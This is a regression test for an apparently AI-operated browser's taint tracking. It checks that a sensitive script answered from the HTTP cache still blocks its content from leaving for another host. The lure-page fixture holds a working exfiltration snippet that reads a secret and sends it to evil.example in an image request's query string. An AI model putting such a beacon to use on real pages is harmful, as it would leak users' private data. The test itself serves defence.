// A sensitive read the HTTP cache answers still taints: a script at a sensitive URL, cached by one client's read,
// loaded again and its content carried to another host by an image. Narrow hooks (browser/hookPatterns.ts) pause
// scripts only when their host is a sensitive site's, and a cache hit never reaches the egress proxy, so the hook
// is what sees it. Found holding by an attack review; kept as a regression test. Assertions on what evil.example
// received.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, startInProcess } from '../helpers/inProcessMcp.ts';
import { waitFor } from '../helpers/waitFor.ts';

const secret = 'cachedsecret31337';
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('a cached sensitive script read with no taint', () => {
  let site: Fixture;
  let tw: InProcessBrowser;
  const seen = (host: string, path: string) =>
    site.seen.filter((request) => request.host.startsWith(`${host}:`) && request.path.startsWith(path));

  before(async () => {
    site = await startFixture({
      '/settings/config.js': (_req, _body, res) =>
        void res
          .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'public, max-age=3600' })
          .end(`window.leak = ${JSON.stringify(secret)};`),
      '/img': (_req, _body, res) => void res.writeHead(204).end(),
      '/lure': (_req, _body, res) =>
        html(
          res,
          `<title>Lure</title><p>lure</p><script src="${site.url('vault.example', '/settings/config.js')}"></script>
          <script>setInterval(() => { document.title = "L:" + (window.leak || "none"); if (window.leak) new Image().src = ${JSON.stringify(site.url('evil.example', '/img'))} + '?d=' + window.leak + '&t=' + Date.now(); }, 100)</script>`,
        ),
    });
    tw = await startInProcess({ rules: ['*://vault.example/settings/*'] });
  });
  after(async () => {
    await tw?.close();
    await site?.close();
  });

  test('a second client of the same browser loading the cached sensitive script is tainted', async () => {
    // Client A: the lure fetches the sensitive script over the network (the proxy taints A; the image is refused).
    const a = await tw.connect();
    a.human.policy = () => ({ decision: 'reject' });
    const opened = await a.call('new_page', { url: site.url('blog.example', '/lure') });
    await waitFor('the script fetched once', () => seen('vault.example', '/settings/config.js').length === 1);
    await pause(800);
    const id = /\b(t\d+|page-?\d+|p\d+)\b/.exec(opened.text)?.[1];
    const pages = await a.call('list_pages');
    const tabId = id ?? /(\S+)\s.*lure/i.exec(pages.text)?.[1];
    if (tabId) await a.call('close_page', { pageId: tabId });
    await a.close();
    const leakedByA = seen('evil.example', `/img?d=${secret}`).length;
    // Client B: a fresh call path over the same browser; the script now comes from the HTTP cache.
    const b = await tw.connect();
    b.human.policy = () => ({ decision: 'reject' });
    await b.call('new_page', { url: site.url('blog.example', '/lure') });
    await pause(2_500);
    const fetched = seen('vault.example', '/settings/config.js').length;
    const leaked = seen('evil.example', `/img?d=${secret}`).length;
    await b.close();
    assert.equal(leakedByA, 0, 'client A leaked although its own read went through the proxy');
    assert.equal(
      leaked,
      0,
      `the sensitive script's content reached evil.example ${leaked} times (script fetched ${fetched} times: a cache hit the proxy never saw)`,
    );
  });
});
